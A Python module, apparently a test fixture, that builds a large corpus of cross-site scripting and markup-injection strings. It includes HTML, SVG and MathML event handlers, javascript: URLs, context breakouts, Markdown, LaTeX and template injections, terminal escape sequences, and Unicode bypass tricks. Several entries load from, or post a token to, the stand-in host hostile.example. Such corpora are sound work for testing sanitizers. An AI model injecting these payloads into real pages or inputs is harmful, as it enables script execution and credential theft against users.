"""Strings that would run something in a page, or show what is not there, if anything took them for more than text.

Whatever runs sets ``window.top.hit``, opens a dialog, or asks for an address with "hostile" in it.
"""

from __future__ import annotations

import html
from urllib.parse import quote

RUN = "window.top.hit=1"
AT = "http://hostile.example/x"

_ELEMENTS = f"""
<script>{RUN}</script>
<SCRIPT>{RUN}</SCRIPT>
<script type=module>{RUN}</script>
<script src={AT}.js></script>
<script/x>{RUN}</script/x>
<scr<script>ipt>{RUN}</scr</script>ipt>
<script>alert(1)</script>
<script>/* </script><script>{RUN}//
<svg><script>{RUN}</script></svg>
<svg><script href=data:,{RUN} />
<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>
<svg/onload={RUN}>
<svg><animate onbegin={RUN} attributeName=x dur=1s>
<svg><set attributeName=onmouseover to={RUN}>
<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x">
<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>
<svg><style><img src=x onerror={RUN}></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror={RUN}>
<math href="javascript:{RUN}">x</math>
<math><maction actiontype=statusline#http://x xlink:href="javascript:{RUN}">x
<img src=x onerror={RUN}>
<img src=x onerror="{RUN}">
<img src=x onerror='{RUN}'>
<img/src=x/onerror={RUN}>
<img src=x:x onerror\t=\t{RUN}>
<image src=x onerror={RUN}>
<img src={AT}.png>
<img srcset="{AT}.png 1x">
<img src="javascript:{RUN}">
<img lowsrc="javascript:{RUN}">
<img src=`x`onerror={RUN}>
<img src=x onerror=alert(1)>
<video src=x onerror={RUN}></video>
<video><source onerror={RUN}></video>
<video poster={AT}></video>
<audio src=x onerror={RUN}>
<audio autoplay oncanplay={RUN}><source src={AT}.mp3>
<track src={AT} default>
<iframe src="javascript:{RUN}"></iframe>
<iframe srcdoc="<script>{RUN}</script>"></iframe>
<iframe src={AT} onload={RUN}></iframe>
<iframe src="data:text/html,<script>{RUN}</script>"></iframe>
<frameset onload={RUN}><frame src={AT}></frameset>
<object data="javascript:{RUN}"></object>
<object data="data:text/html;base64,PHNjcmlwdD50b3AuaGl0PTE8L3NjcmlwdD4="></object>
<object type=text/html data={AT}></object>
<embed src="javascript:{RUN}">
<embed src={AT} type=text/html>
<applet code={AT}></applet>
<body onload={RUN}>
<body onpageshow={RUN}>
<body background={AT}>
<html onmouseover={RUN}>
<a href="javascript:{RUN}">click</a>
<a href=" &#14; javascript:{RUN}">click</a>
<a href="java\tscript:{RUN}">click</a>
<a href="JaVaScRiPt:{RUN}">click</a>
<a href="vbscript:msgbox(1)">click</a>
<a href="data:text/html,<script>{RUN}</script>">click</a>
<a href={AT} ping={AT}>click</a>
<a id=x tabindex=1 onfocus={RUN}></a>
<area href="javascript:{RUN}">
<form action="javascript:{RUN}"><input type=submit autofocus></form>
<form action={AT}><input name=token><button>Log in</button></form>
<form><button formaction="javascript:{RUN}">x</button></form>
<input onfocus={RUN} autofocus>
<input type=image src={AT}.png onerror={RUN}>
<select onfocus={RUN} autofocus></select>
<textarea onfocus={RUN} autofocus></textarea>
<keygen onfocus={RUN} autofocus>
<button onclick={RUN}>Cancel</button>
<button popovertarget=x>Click</button><div popover id=x onbeforetoggle={RUN}>x</div>
<details open ontoggle={RUN}><summary>x</summary></details>
<dialog open onclose={RUN}>x</dialog>
<marquee onstart={RUN}>x</marquee>
<isindex type=image src={AT} onerror={RUN}>
<style>@import "{AT}.css";</style>
<style>*{{background:url({AT})}}</style>
<style>body{{display:none}}</style>
<style onload={RUN}></style>
<link rel=stylesheet href={AT}.css>
<link rel=import href={AT}>
<link rel=preload as=image href={AT}.png>
<base href="{AT}/">
<meta http-equiv=refresh content="0;url={AT}">
<meta http-equiv=Content-Security-Policy content="default-src 'none'">
<template><script>{RUN}</script></template>
<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>
<div style="background:url({AT})">x</div>
<div style="position:fixed;inset:0;z-index:9999;background:red">covered</div>
<div style="width:expression({RUN})">x</div>
<div style="behavior:url({AT})">x</div>
<div onmouseover={RUN} style="position:fixed;inset:0">x</div>
<div contenteditable autofocus onfocus={RUN}>x</div>
<p onanimationstart={RUN} style="animation:x 1s">x</p>
<table background={AT}><td background={AT}>
<xss id=x tabindex=1 onfocus={RUN} autofocus></xss>
<x-widget onpointerenter={RUN}>x</x-widget>
<xml onreadystatechange={RUN}>
<bgsound src={AT}>
<layer src={AT}></layer>
<portal src={AT}>
<title onpropertychange={RUN}></title>
<comment><img src="</comment><img src=x onerror={RUN}//">
<plaintext>
<xmp><img src=x onerror={RUN}></xmp>
<listing><img src=x onerror={RUN}></listing>
"""

_BREAKING_OUT = f"""
"><img src=x onerror={RUN}>
'><img src=x onerror={RUN}>
`><img src=x onerror={RUN}>
" onmouseover="{RUN}
' onfocus='{RUN}' autofocus='
` onclick={RUN} `
" style="position:fixed;inset:0" onpointerover="{RUN}
"/><script>{RUN}</script>
</div></div></div><script>{RUN}</script>
</pre></details><img src=x onerror={RUN}><pre>
</code></summary><svg onload={RUN}>
</title><script>{RUN}</script>
</textarea><script>{RUN}</script>
</style><script>{RUN}</script>
</script><script>{RUN}</script>
</noscript><script>{RUN}</script>
</td></tr></table><img src=x onerror={RUN}>
</option></select><img src=x onerror={RUN}>
</button><button onclick={RUN}>Cancel
</iframe><img src=x onerror={RUN}>
<!-- --><img src=x onerror={RUN}>
<!--><img src=x onerror={RUN}>-->
--><img src=x onerror={RUN}><!--
--!><img src=x onerror={RUN}>
<![CDATA[<img src=x onerror={RUN}>]]>
]]><img src=x onerror={RUN}>
<?xml-stylesheet href="javascript:{RUN}"?>
<!DOCTYPE html><html><body onload={RUN}>
<!ENTITY x "<img src=x onerror={RUN}>">
\\"><img src=x onerror={RUN}>
\\u003cimg src=x onerror={RUN}\\u003e
\\x3cimg src=x onerror={RUN}\\x3e
%3Cimg%20src=x%20onerror={RUN}%3E
&lt;img src=x onerror={RUN}&gt;
&#60;img src=x onerror={RUN}&#62;
&#x3c;img src=x onerror={RUN}&#x3e;
&amp;lt;img src=x onerror={RUN}&amp;gt;
&lt&lt;script&gt&gt;{RUN}
&NewLine;<img src=x onerror={RUN}>
+ADw-script+AD4-{RUN}+ADw-/script+AD4-
"-{RUN}-"
'-{RUN}-'
";{RUN};//
';{RUN};//
*/{RUN}/*
"}};{RUN};//
red;background:url({AT})
0%;background:url({AT})
javascript:{RUN}//
data:text/html,<script>{RUN}</script>
{AT}
//hostile.example/x
mailto:hostile@hostile.example
"""

_MARKUP = f"""
[click](javascript:{RUN})
[click](<javascript:{RUN}>)
[click](data:text/html,<script>{RUN}</script>)
![x]({AT}.png)
![x](x"onerror="{RUN})
[x]: javascript:{RUN}
<javascript:{RUN}>
<{AT}>
# heading <img src=x onerror={RUN}>
- list <img src=x onerror={RUN}>
> quote <img src=x onerror={RUN}>
| a | <img src=x onerror={RUN}> |
```html <img src=x onerror={RUN}>
`<img src=x onerror={RUN}>`
**<img src=x onerror={RUN}>**
~~~ <script>{RUN}</script>
$$\\unicode{{<img src=x onerror={RUN}>}}$$
$\\href{{javascript:{RUN}}}{{x}}$
\\(\\href{{javascript:{RUN}}}{{x}}\\)
\\[\\style{{background:url({AT})}}{{x}}\\]
$\\class{{x" onclick="{RUN}}}{{x}}$
\\begin{{equation}}\\require{{html}}\\href{{javascript:{RUN}}}{{x}}\\end{{equation}}
{{{{constructor.constructor('{RUN}')()}}}}
${{{RUN}}}
<%= {RUN} %>
#{{{RUN}}}
{{% raw %}}<img src=x onerror={RUN}>
[[{RUN}]]
:img[x]{{src={AT}}}
[bold red]rich[/] [link={AT}]x[/link]
"""

_CODES = [
    f"\x1b[31m<img src=x onerror={RUN}>\x1b[0m",
    f"\x1b[<script>{RUN}</script>m",
    f"\x1b[31;<img src=x onerror={RUN}>m",
    f"\x1b[38;2;<b>;1;1m<img src=x onerror={RUN}>",
    f'\x1b[38;5;1";onclick="{RUN}m',
    f"\x1b[1;1H\x1b[2J<script>{RUN}</script>",
    f"\x1b]0;<script>{RUN}</script>\x07",
    f"\x1b]8;;javascript:{RUN}\x1b\\click\x1b]8;;\x1b\\",
    f"\x1b]8;;{AT}\x07click\x1b]8;;\x07",
    f'\x1b]8;;"><img src=x onerror={RUN}>\x07x\x1b]8;;\x07',
    "\x1b]52;c;aG9zdGlsZQ==\x07",
    f"\x1b]1337;File=inline=1:<img src=x onerror={RUN}>\x07",
    f"\x1b_G<img src=x onerror={RUN}>\x1b\\",
    f"\x1bP<img src=x onerror={RUN}>\x1b\\",
    f"\x9b31m<img src=x onerror={RUN}>",
    f"\x9d0;<img src=x onerror={RUN}>\x9c",
    f"<img src=x\r onerror={RUN}>",
    f"hidden\r<img src=x onerror={RUN}>",
    f"<im\b\b\b<img src=x onerror={RUN}>",
    f"<img\x0bsrc=x\x0conerror={RUN}>",
    f"<\x00img src=x onerror={RUN}>",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"<img src=x\x00 onerror={RUN}>",
    f"\x1c<img src=x onerror={RUN}>\x1d\x1e\x1f",
    f"\x7f<img src=x onerror={RUN}>\x80",
    f"\ufeff<img src=x onerror={RUN}>",
    f"\u202e<img src=x onerror={RUN}>\u202c",
    f"\u2066<img src=x onerror={RUN}>\u2069",
    f"\u2028<img src=x onerror={RUN}>\u2029",
    f"\u200b<\u200bimg src=x onerror={RUN}>",
    f"\U000e003c\U000e0069<img src=x onerror={RUN}>",
    f"\uff1cimg src=x onerror={RUN}\uff1e",
    f"\u2039img src=x onerror={RUN}\u203a",
    f"\u02c2img src=x onerror={RUN}\u02c3",
    f"<\u0131mg src=x onerror={RUN}>",
    f"<\u017fcript>{RUN}</\u017fcript>",
    f"<\ufe64script\ufe65{RUN}",
    f"\ud83d<img src=x onerror={RUN}>\udc00",
    "e" + "\u0300" * 200 + f"<img src=x onerror={RUN}>",
    f"{'<' * 500}img src=x onerror={RUN}>",
    f"{'x' * 30_000}<img src=x onerror={RUN}>",
    f"{'<b>' * 300}<img src=x onerror={RUN}>",
    html.escape(html.escape(f'<img src="x" onerror="{RUN}">')),
    quote(f"<img src=x onerror={RUN}>"),
]

CORPUS = [*(line for text in (_ELEMENTS, _BREAKING_OUT, _MARKUP) for line in text.strip().splitlines()), *_CODES]
